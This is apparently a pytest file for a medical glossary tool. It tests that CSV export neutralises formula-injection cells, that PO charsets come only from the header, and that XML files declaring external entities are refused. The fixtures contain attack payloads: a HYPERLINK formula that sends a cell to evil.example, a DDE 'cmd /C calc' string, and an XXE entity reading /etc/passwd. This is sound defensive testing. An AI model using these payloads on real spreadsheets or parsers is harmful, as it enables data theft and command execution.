"""Issue 17, classes 7 and 11: CSV export cannot inject formulas; a PO's charset comes from its
header entry only."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import medgloss
from medgloss.documents.declared import declared_encoding
from medgloss.exchange.csv_format import glossary_csv, read_csv

from sec_helpers import FIXED, WRONG

LAYER = """\
domain: test
concepts:
  - id: test-formula
    source: mesh-fr
    en: [=HYPERLINK("http://evil.example/?"&A1)]
    definition: "@SUM(1+1)*cmd|' /C calc'!A0"
    note: "-2+3"
    fr:
      - {term: œdème, status: preferred, pos: noun, gender: m, note: "+33 1 23 45 67 89"}
      - {term: edème, status: forbidden, pos: noun, gender: m, note: "\\tTAB"}
"""


def test_csv_export_neutralises_formula_cells_and_imports_back(tmp_path: Path) -> None:
    (tmp_path / "layer.yaml").write_text(LAYER, encoding="utf-8")
    glossary = medgloss.load_glossary([tmp_path / "layer.yaml"])
    text = glossary_csv(glossary)
    rows = [row for row in csv.DictReader(io.StringIO(text)) if row["context"] == "test-formula"]
    assert len(rows) == 2
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
    assert rows[0]["en"].startswith("'=HYPERLINK") and rows[0]["definition"].startswith("'@SUM")
    (tmp_path / "export.csv").write_text(text, encoding="utf-8")
    _, back = read_csv(str(tmp_path / "export.csv"))
    concept = back.concepts["test-formula"]
    assert concept.en == ('=HYPERLINK("http://evil.example/?"&A1)',)
    assert concept.definition == "@SUM(1+1)*cmd|' /C calc'!A0" and concept.note == "-2+3"
    assert [t.note for t in concept.terms] == ["+33 1 23 45 67 89", "\tTAB"]  # exact round trip


HEADER = 'msgid ""\nmsgstr ""\n"Content-Type: text/plain; charset=UTF-8\\n"\n\n'


def test_po_charset_is_read_from_the_header_only(medgloss_run, tmp_path: Path) -> None:
    catalog = ("# Translators: an older version of this file was in charset=latin1.\n" + HEADER
               + f'msgid "x"\nmsgstr "{WRONG.strip()}"\n')
    assert declared_encoding("fr.po", catalog.encode()) == "utf-8"
    (tmp_path / "fr.po").write_bytes(catalog.encode("utf-8"))
    assert medgloss_run("check", "--fix", "--no-fuzzy", "fr.po").code == 0
    fixed = (tmp_path / "fr.po").read_bytes().decode("utf-8")  # still UTF-8, not Latin-1
    assert FIXED.strip() in fixed


def test_a_charset_in_a_translation_is_not_a_declaration() -> None:
    assert declared_encoding("fr.po", b'msgid "charset=latin1"\nmsgstr "charset=latin1"\n') is None
    latin = 'msgid ""\nmsgstr ""\n"Content-Type: text/plain; charset=ISO-8859-1\\n"\n'
    assert declared_encoding("fr.po", ("# comment\n\n" + latin).encode()) == "iso8859-1"


# --- class 3: the XML guard is lxml's reading of the DTD, not a hand lexer ----------------

def test_an_entity_hidden_after_a_quote_in_a_dtd_comment_is_refused(medgloss_run, tmp_path: Path) -> None:
    (tmp_path / "doc.xlf").write_text(
        '<?xml version="1.0"?>\n<!DOCTYPE xliff [\n<!-- it"s a comment -->\n<!ENTITY e SYSTEM "file:///etc/passwd">\n]>\n'
        '<xliff version="1.2"><file source-language="en" target-language="fr"><body>'
        '<trans-unit id="1"><source>x</source><target>&e;</target></trans-unit></body></file></xliff>\n',
        encoding="utf-8")
    result = medgloss_run("check", "doc.xlf")
    assert result.code == 2 and "refused: the DOCTYPE declares entities (e)" in result.err


def test_a_declaration_inside_a_dtd_comment_is_no_declaration(tmp_path: Path) -> None:
    from medgloss.documents.xml_scan import parse_xml

    layout = parse_xml('<!DOCTYPE r [<!-- <!ENTITY a "x"> --><!ELEMENT r ANY>]><r>texte</r>', "x.xml")
    assert layout.root.qname == "r"
